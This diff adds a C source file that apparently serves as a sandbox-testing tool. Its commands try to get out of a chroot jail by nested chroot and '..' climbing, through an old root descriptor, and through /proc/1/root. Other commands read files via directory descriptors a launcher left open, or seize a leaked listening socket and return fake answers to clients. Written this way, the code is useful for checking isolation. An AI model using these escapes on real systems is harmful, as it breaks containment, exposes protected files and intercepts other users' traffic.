@@ -1,0 +1,124 @@
+/* Ways out of a directory that chroot has made the root, and what a launcher leaves open for its children. */
+#define _GNU_SOURCE
+#include "service.h"
+
+#include <errno.h>
+#include <fcntl.h>
+#include <poll.h>
+#include <stdio.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+enum { DEEPEST = 64, FIRST_LEFT_OPEN = 3, MOST_DESCRIPTORS = 256 };
+
+/* chroot moves the root and not the working directory: from outside of the new root, .. leads past the old one. */
+static bool climb(void)
+{
+	for (int i = 0; i < DEEPEST; i++)
+		if (chdir("..") != 0)
+			return false;
+	return chroot(".") == 0;
+}
+
+/* !escape PATH */
+static void escape(const struct request *request)
+{
+	mkdir("/tmp/deeper", 0755);
+	if (chroot("/tmp/deeper") != 0 || !climb())
+		answer_errno("escape");
+	else
+		answer_file("escape", open(word(request, 1), O_RDONLY));
+}
+
+/* !escape-fd PATH : the same by a descriptor of the old root. */
+static void escape_by_descriptor(const struct request *request)
+{
+	int old = open("/", O_RDONLY | O_DIRECTORY);
+	mkdir("/tmp/deeper", 0755);
+	if (old < 0 || chroot("/tmp/deeper") != 0 || fchdir(old) != 0 || !climb())
+		answer_errno("escape-fd");
+	else
+		answer_file("escape-fd", open(word(request, 1), O_RDONLY));
+}
+
+/* !escape-mount PATH : /proc has the root of the first process. */
+static void escape_by_mount(const struct request *request)
+{
+	char path[LINE_SIZE + 32];
+	if (mount("proc", "/proc", "proc", 0, NULL) != 0) {
+		answer_errno("escape-mount");
+		return;
+	}
+	snprintf(path, sizeof path, "/proc/1/root%s", word(request, 1));
+	answer_file("escape-mount", open(path, O_RDONLY));
+}
+
+/* !root-of PID PATH */
+static void root_of(const struct request *request)
+{
+	char path[LINE_SIZE + 32];
+	snprintf(path, sizeof path, "/proc/%ld/root%s", number(request, 1, 1 << 22), word(request, 2));
+	answer_file("root-of", open(path, O_RDONLY));
+}
+
+/* !fds PATH : a directory that the launcher left open is a door through every wall. */
+static void by_left_descriptors(const struct request *request)
+{
+	const char *path = word(request, 1);
+	while (*path == '/')
+		path++;
+	errno = EBADF;
+	for (int fd = FIRST_LEFT_OPEN; fd < MOST_DESCRIPTORS; fd++) {
+		int file = openat(fd, path, O_RDONLY);
+		if (file >= 0) {
+			answer_file("fds", file);
+			return;
+		}
+	}
+	answer_errno("fds");
+}
+
+static bool is_listener(int fd)
+{
+	int listening = 0;
+	socklen_t size = sizeof listening;
+	return getsockopt(fd, SOL_SOCKET, SO_ACCEPTCONN, &listening, &size) == 0 && listening;
+}
+
+/* !steal : the listening socket that the launcher left open gives this process the next clients, in its place. */
+static void steal(const struct request *request)
+{
+	(void)request;
+	for (int fd = FIRST_LEFT_OPEN; fd < MOST_DESCRIPTORS; fd++) {
+		if (!is_listener(fd))
+			continue;
+		struct pollfd waiting = {.fd = fd, .events = POLLIN};
+		answer("steal", "waiting");
+		/* The launcher wakes up for the same client: whoever is first has it. */
+		for (int tries = 0; tries < 20000 && poll(&waiting, 1, 3000) > 0; tries++) {
+			int client = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
+			if (client < 0)
+				continue;
+			char line[LINE_SIZE];
+			ssize_t length = read(client, line, sizeof line - 1);
+			write_all(client, "fake answer\n", 12);
+			close(client);
+			line[length > 0 ? length : 0] = '\0';
+			line[strcspn(line, "\n")] = '\0';
+			answer("stolen", line);
+			return;
+		}
+		answer("steal", "nobody came");
+		return;
+	}
+	answer("steal", "EBADF");
+}
+
+const struct command jail_commands[] = {
+	{"!escape", escape},   {"!escape-fd", escape_by_descriptor}, {"!escape-mount", escape_by_mount},
+	{"!root-of", root_of}, {"!fds", by_left_descriptors},        {"!steal", steal},
+	{NULL, NULL},
+};
